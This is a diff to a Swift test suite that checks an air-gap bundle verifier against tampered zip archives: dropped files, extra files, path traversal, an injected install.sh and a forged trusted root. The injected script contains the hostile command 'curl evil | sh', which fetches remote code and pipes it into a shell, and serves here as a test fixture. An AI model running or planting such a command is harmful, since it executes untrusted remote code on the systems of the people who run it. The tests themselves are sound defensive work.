@@ -5,13 +5,20 @@ import Testing
 @Suite("hallmark airgap bundle and verify", .serialized)
 struct AirGapTests {
     static let rewrite = """
-        import sys, zipfile
+        import hashlib, sys, zipfile
         src, dst, mode = sys.argv[1], sys.argv[2], sys.argv[3]
         with zipfile.ZipFile(src) as a, zipfile.ZipFile(dst, "w", zipfile.ZIP_DEFLATED) as b:
             for info in a.infolist():
                 if mode == "drop" and info.filename == "release/index.json":
                     continue
-                b.writestr(info, a.read(info.filename))
+                data = a.read(info.filename)
+                if mode in ("script", "root") and info.filename == "REQUIRED-FILES.txt":
+                    extra = {"script": ("install.sh", b"curl evil | sh\\n"), "root": ("trust/trusted_root.json", b'{"forged": true}')}[mode]
+                    lines = [l for l in data.decode().splitlines() if not l.endswith("  " + extra[0])]
+                    lines.append(hashlib.sha256(extra[1]).hexdigest() + "  " + extra[0])
+                    data = ("\\n".join(sorted(lines, key=lambda l: l[66:])) + "\\n").encode()
+                    b.writestr(extra[0], extra[1])
+                b.writestr(info, data)
             if mode == "extra":
                 b.writestr("release/extra.txt", b"sneaked in")
             if mode == "traversal":
@@ -57,6 +64,8 @@ struct AirGapTests {
             ("drop", trusted, 1, "release/index.json: required, but missing"),
             ("extra", trusted, 1, "release/extra.txt: in the bundle but not in REQUIRED-FILES.txt"),
             ("traversal", trusted, 2, "'..'"),
+            // Anything outside the bundle layout is refused, even when REQUIRED-FILES.txt (unsigned) lists it.
+            ("script", trusted, 1, "[airgap.content-mismatch]"),
             // A key that signed nothing in the release.
             ("a.zip", ["--key", dir.url("other.pub")], 1, "[signature.untrusted-key]"),
             ("a.zip", ["--key", dir.url("other.pub"), "--insecure-use-embedded-keys"], 2, "contradicts"),
@@ -65,7 +74,8 @@ struct AirGapTests {
             var file = dir.url(name)
             if !name.hasSuffix(".zip") {
                 file = dir.url(name + ".zip")
-                #expect(try ProcessRunner.run("python3", [dir.url("rewrite.py"), dir.url("a.zip"), file, name]).status == 0)
+                let rewritten = try ProcessRunner.run("python3", [dir.url("rewrite.py"), dir.url("a.zip"), file, name])
+                #expect(rewritten.status == 0, "\(rewritten.stderr)")
             }
             let result = try ProcessRunner.hallmark(["airgap", "verify", file, "--extract", dir.url("out-" + name)] + extra)
             #expect(result.status == status, "\(name): exit \(result.status) \(result.stdout)\(result.stderr)")
@@ -73,6 +83,16 @@ struct AirGapTests {
             #expect(!dir.exists("out-" + name), "\(name): nothing may be extracted")
         }
         #expect(!FileManager.default.fileExists(atPath: (dir.path as NSString).deletingLastPathComponent + "/evil.txt"))
+
+        // A trusted root (or instructions) put in by whoever wrote the zip: extracted, but named as covered by no
+        // signature, never as verified.
+        #expect(try ProcessRunner.run("python3", [dir.url("rewrite.py"), dir.url("a.zip"), dir.url("root.zip"), "root"]).status == 0)
+        let forgedRoot = try ProcessRunner.hallmark(["airgap", "verify", dir.url("root.zip"), "--key", key, "--format", "json"])
+        #expect(forgedRoot.status == 0, "\(forgedRoot.stdout)\(forgedRoot.stderr)")
+        #expect(forgedRoot.stderr.contains("[airgap.unauthenticated]") && forgedRoot.stderr.contains("trust/trusted_root.json"), "\(forgedRoot.stderr)")
+        let rootReport = try #require(try JSONSerialization.jsonObject(with: forgedRoot.stdoutData) as? [String: Any])
+        #expect((rootReport["unauthenticated"] as? [String] ?? []).contains("trust/trusted_root.json"))
+        #expect((rootReport["unauthenticated"] as? [String] ?? []).contains { $0.hasPrefix("trust/keys/") } == false)
     }
 }
 
